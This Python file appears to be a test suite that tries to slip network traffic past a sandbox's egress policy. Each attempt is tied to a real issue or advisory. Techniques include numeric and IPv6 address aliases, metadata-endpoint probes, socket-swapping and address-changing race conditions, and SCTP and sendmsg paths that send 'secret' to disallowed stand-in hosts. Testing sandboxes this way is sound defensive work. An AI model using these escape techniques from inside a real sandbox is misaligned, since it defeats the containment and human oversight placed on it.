"""Attempts by addresses."""
import ctypes, os, socket, struct, threading, time

from attempts import ALLOWED, LIBC, OTHER, PRIVATE, SEEN_ADDRESS, address_of, attempt, listening, quietly, send, tcp


# Addresses.
@attempt("cilium/cilium#31803: Egress rules allow traffic to a FQDN if its IP is that of an allowed FQDN")
def the_address_of_an_allowed_name():
    tcp(ALLOWED, 80), tcp(ALLOWED, 443)


@attempt("anthropic-experimental/sandbox-runtime#274: Network policy is hostname-only")
def other_ports_of_an_allowed_name():
    found = address_of("allowed.example")
    for port in (7, 22, 25, 81, 444, 8443, 65535):
        tcp(found, port)


@attempt()
def synthetic_addresses_of_nobody():
    address_of("allowed.example")
    for last in range(1, 40):
        tcp(f"198.18.0.{last}", 7), tcp(f"198.19.255.{last}", 80)


@attempt("denoland/deno#21227: Deno should block access to local network unless explicitly permitted")
def other_addresses():
    for address in (OTHER, PRIVATE, "169.254.169.254", "8.8.8.8", "224.0.0.1", "255.255.255.255", "203.0.113.53"):
        for port in (53, 80, 443):
            tcp(address, port, b"x")


@attempt("GHSA-v8fw-85r8-5m23: Deno: numeric hostname aliases bypass deny checks")
def numbers_for_addresses():
    for text in ("0xcb00710b", "3405803787", "0313.0.0161.013", "203.0.28939", "0x7f.1", "2130706433", "127.1"):
        quietly(lambda: socket.create_connection((text, 80), timeout=2).sendall(b"x"))


@attempt("GHSA-j8q9-r9pq-2hh9: SSRF guard bypass via IPv6-to-IPv4 transition addresses")
def addresses_of_ipv6():
    for address in (f"::ffff:{OTHER}", f"::{OTHER}", "64:ff9b::203.0.113.11", "2002:cb00:710b::1", "2001:db8::10",
                    "::ffff:198.18.0.9", "fe80::1%lo", "ff02::1", "2001:0:cb00:710b::"):
        for port in (80, 443):
            quietly(lambda: socket.create_connection((address, port), timeout=2).sendall(b"x"))


@attempt()
def the_brokers_own_ports():
    address_of("allowed.example")
    # The ports of the rules are allowed, whoever waits there.
    for port in listening() - {80, 443}:
        for address in ("127.0.0.1", "198.18.0.2", "198.18.0.3", OTHER, PRIVATE, "0.0.0.0"):
            tcp(address, port)
        tcp("::1", port, family=socket.AF_INET6), tcp(f"::ffff:{OTHER}", port, family=socket.AF_INET6)


@attempt("landlock-lsm/linux#41: Restrict TCP Fast Open connection")
def fast_open():
    address_of("allowed.example")
    for address in (OTHER, "198.18.0.2", PRIVATE):
        for port in (80, 443):
            with socket.socket() as s:
                quietly(lambda: s.sendto(b"GET / HTTP/1.0\r\n\r\n", 0x20000000, (address, port)))
                quietly(lambda: s.recv(10))


@attempt()
def odd_lengths_of_addresses():
    packed = struct.pack("HH4s8x", socket.AF_INET, socket.htons(80), socket.inet_aton(OTHER))
    for length in (0, 1, 2, 4, 8, 15, 16, 28, 100, 128, 129, 2**31):
        with socket.socket() as s:
            s.settimeout(1)
            LIBC.connect(s.fileno(), packed + bytes(200), length)
            quietly(lambda: s.send(b"x"))


@attempt()
def families_that_do_not_fit():
    for family in (0, 1, 2, 10, 16, 40, 255, 65535):
        packed = struct.pack("HH4s", family, socket.htons(80), socket.inet_aton(OTHER)) + bytes(24)
        for kind in (socket.AF_INET, socket.AF_INET6):
            with socket.socket(kind) as s:
                s.settimeout(1)
                LIBC.connect(s.fileno(), packed, len(packed))
                quietly(lambda: s.send(b"x"))


@attempt("multikernel/sandlock#27: Sandbox escape by racing seccomp notifications?", seen=SEEN_ADDRESS)
def an_address_that_changes_meanwhile():
    buffer = ctypes.create_string_buffer(16)
    good = struct.pack("HH4s8x", socket.AF_INET, socket.htons(80), socket.inet_aton("203.0.113.15"))
    bad = struct.pack("HH4s8x", socket.AF_INET, socket.htons(80), socket.inet_aton(OTHER))
    over = []

    def spin():
        while not over:
            buffer.raw = good
            buffer.raw = bad

    threading.Thread(target=spin, daemon=True).start()
    for _ in range(150):
        with socket.socket() as s:
            s.settimeout(1)
            LIBC.connect(s.fileno(), buffer, 16)
            quietly(lambda: s.send(b"x"))
    over.append(1)


@attempt("sysprog21/kbox#40: Audit CONTINUE dispatches for TOCTOU races", seen=SEEN_ADDRESS)
def a_socket_that_is_exchanged_meanwhile():
    with socket.socket() as s, socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as other:
        spare, over = os.dup(s.fileno()), []

        def spin():
            while not over:
                os.dup2(other.fileno(), s.fileno())
                os.dup2(spare, s.fileno())

        spinning = threading.Thread(target=spin, daemon=True)
        spinning.start()
        for _ in range(100):
            quietly(lambda: s.connect((OTHER, 9)))
            quietly(lambda: s.connect(("203.0.113.15", 80)))
            quietly(lambda: other.send(b"x"))
        over.append(1)
        # Without its sockets it would end with a traceback.
        spinning.join()


@attempt(seen=SEEN_ADDRESS)
def connect_again():
    with socket.socket() as s:
        quietly(lambda: s.connect(("203.0.113.15", 80)))
        LIBC.connect(s.fileno(), bytes(16), 16)
        quietly(lambda: s.connect((OTHER, 80)))
        quietly(lambda: s.send(b"GET / HTTP/1.0\r\n\r\n"))


@attempt()
def connections_that_do_not_wait():
    for address in (OTHER, PRIVATE, "198.18.0.77"):
        with socket.socket() as s:
            s.setblocking(False)
            s.connect_ex((address, 80))
            time.sleep(0.2)
            quietly(lambda: s.send(b"x"))


@attempt("CVE-2021-29922: Rust: leading zeros of IPv4 addresses (rust-lang/rust#83648); CVE-2021-28918: netmask")
def addresses_in_octal():
    for text in ("0313.0000.0161.0013", "203.0.113.013", "031300070413", "012.0.0.1", "0251.0376.0251.0376", "0177.1"):
        quietly(lambda: socket.create_connection((text, 80), timeout=2).sendall(b"x")), address_of(text)


@attempt("landlock-lsm/linux#54: Restrict Multipath TCP")
def multipath_tcp():
    for address in (OTHER, PRIVATE, "198.18.0.2"):
        tcp(address, 80, proto=262)


@attempt("landlock-lsm/linux#40: Restrict SCTP bind/connect via setsockopt")
def sctp_by_an_option():
    packed = struct.pack("HH4s8x", socket.AF_INET, socket.htons(80), socket.inet_aton(OTHER))
    for kind in (socket.SOCK_STREAM, 5):
        def talk():
            with socket.socket(socket.AF_INET, kind, 132) as s:
                s.settimeout(1)
                s.setsockopt(132, 110, packed)
                s.send(b"secret")

        quietly(talk)


@attempt("multikernel/sandlock#28: sendmsg fell through to Continue, past the IP allowlist")
def messages_with_an_address():
    for flags in (0, 0x20000000):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            for address in ((OTHER, 80), (PRIVATE, 9), ("203.0.113.53", 9)):
                with socket.socket(socket.AF_INET, kind) as s:
                    s.settimeout(1)
                    quietly(lambda: s.sendmsg([b"secret"], [], flags, address))
